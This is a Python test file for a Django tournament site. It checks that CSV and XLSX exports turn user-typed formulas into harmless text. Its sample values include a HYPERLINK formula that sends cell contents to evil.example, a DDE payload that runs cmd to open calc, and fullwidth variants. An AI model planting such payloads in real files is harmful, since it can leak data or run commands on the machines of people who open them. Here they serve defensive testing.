"""Formulas typed into names, keys, clubs, countries, teams and EMA numbers come out of every
CSV and XLSX file of the site as text that no spreadsheet runs.

The files are found as a user finds them: the links to files (`?_export=`, `.csv`) on the
tournament's pages, read as its organiser, including the provisional standings; the test checks
that it found the standings (CSV, XLSX, provisional or not) and the EMA file, so a file linked
later is checked too. In every file no text cell starts with `=`, `+`, `-`, `@`, `|`, a tab or a
carriage return (nor their fullwidth forms, nor after spaces), no XLSX cell is a formula, each
typed formula is there behind its apostrophe, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.exceptions import ValidationError
from factories import make_tournament, make_user, seated_round
from openpyxl import load_workbook
from site_map import fill, page_routes, parse

from tournament.infra.spreadsheet import formula_like
from tournament.models import Player
from tournament.services import DealInput, add_player, end_game, record_deal

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "Eve @SUM(1+1)",  # the EMA file splits names: "@SUM(1+1)" would start a cell
    "＝1+1",  # fullwidth forms, read by some spreadsheets as the ASCII ones
    "＋1+1",
    "\u3000=1+1",  # an ideographic space, skipped by some before the formula
    " @SUM(1+1)",
    "|calc",
]
# A number written as text in a CSV file (a negative score): a spreadsheet reads it as a number.
NUMBER = re.compile(r"-?\d+(\.\d+)?(/\d+)?")
KEYS = ["=1", "+2", "@3", "-4", "5", "6", "=7", "8", "9", "10", "11", "12"]


def add_formula_player(tournament, index: int, key: str) -> Player:
    """A player whose text fields hold formulas: keyed by a formula and with a formula for
    EMA number when the application lets them be typed, else by its number and without."""
    fields = {
        "name": FORMULAS[index],
        "country": FORMULAS[(index + 1) % len(FORMULAS)][:100],
        "club": FORMULAS[(index + 2) % len(FORMULAS)],
        "team": FORMULAS[(index + 3) % len(FORMULAS)],
        "ema_number": f"={index}+1",
    }
    plain = str(index + 1)
    for attempt in (
        {"key": key},
        {"key": plain},
        {"key": key, "ema_number": ""},
        {"key": key, "ema_number": "", "country": ""},
    ):
        try:
            return add_player(tournament=tournament, **{**fields, **attempt})
        except ValidationError:
            pass
    return add_player(
        tournament=tournament, **{**fields, "key": plain, "ema_number": "", "country": ""}
    )


@pytest.fixture
def formulas(db):
    organiser = make_user("alice", password="correct-horse-42")
    tournament = make_tournament(organisers=[organiser], slug="formula-cup")
    players = [add_formula_player(tournament, index, key) for index, key in enumerate(KEYS)]
    _, tables = seated_round(tournament, organiser, [players[:4], players[4:8], players[8:]])
    record_deal(
        table=tables[0],
        number=1,
        deal=DealInput(result="win", winner=players[0], fan=8),
        entered_by=organiser,
    )
    end_game(table=tables[0], ended_by_time=True, entered_by=organiser)  # submitted, unconfirmed
    return {"tournament": tournament, "organiser": organiser, "players": players}


def file_links(client, tournament) -> set[str]:
    """The links to CSV and XLSX files on the tournament's pages."""
    values = {"slug": tournament.slug, "key": "5", "number": 1, "round": 1, "table": 1}
    pages = {fill(route, values) for _, route in page_routes()}
    pages |= {f"/t/{tournament.slug}/standings/?provisional=1"}
    links = set()
    for page in sorted(pages):
        if tournament.slug not in page:
            continue
        response = client.get(page)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        _forms, found = parse(page, response.content.decode())
        links |= {link for link in found if "_export=" in link or link.endswith(".csv")}
    return links


def cells(response) -> list[list[object]]:
    """The file's rows of cells, as a spreadsheet reads them (header row included)."""
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = []
    for row in sheet.iter_rows():
        formulas = [cell.coordinate for cell in row if cell.data_type == "f"]
        assert formulas == [], f"formula cells {formulas}"
        rows.append([cell.value for cell in row])
    return rows


def test_every_export_writes_typed_formulas_as_text(client, formulas):
    client.force_login(formulas["organiser"])
    links = file_links(client, formulas["tournament"])
    kinds = {link.split("/")[-1] for link in links}
    assert {"?_export=csv", "?_export=xlsx", "ema.csv"} <= kinds, links
    assert any("provisional=1" in link for link in links), links

    live = []
    for link in sorted(links):
        response = client.get(link)
        assert response.status_code == 200, link
        rows = cells(response)
        text = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
        live += [(link, cell) for cell in text if formula_like(cell) and not NUMBER.fullmatch(cell)]
        # The typed formulas are in the file, as text behind an apostrophe.
        assert "'=HYPERLINK" in " ".join(text), link
        assert "'@SUM(1+1)" in text, link
        if "_export=xlsx" in link:
            assert any(isinstance(cell, int | float) for row in rows[1:] for cell in row)
    assert live == []


@pytest.mark.parametrize(
    ("text", "formula"),
    [("=1", True), ("＝1", True), ("＋1", True), ("－1", True), ("＠A1", True), ("|x", True),
     ("｜x", True), ("\u3000=1", True), ("  +1", True), ("\t1", True), ("Ann", False),
     ("陈彩", False), ("", False), ("   ", False), ("1-2", False), ("Eve @SUM", False)],
)  # fmt: skip
def test_what_a_spreadsheet_could_read_as_a_formula(text, formula):
    assert formula_like(text) is formula
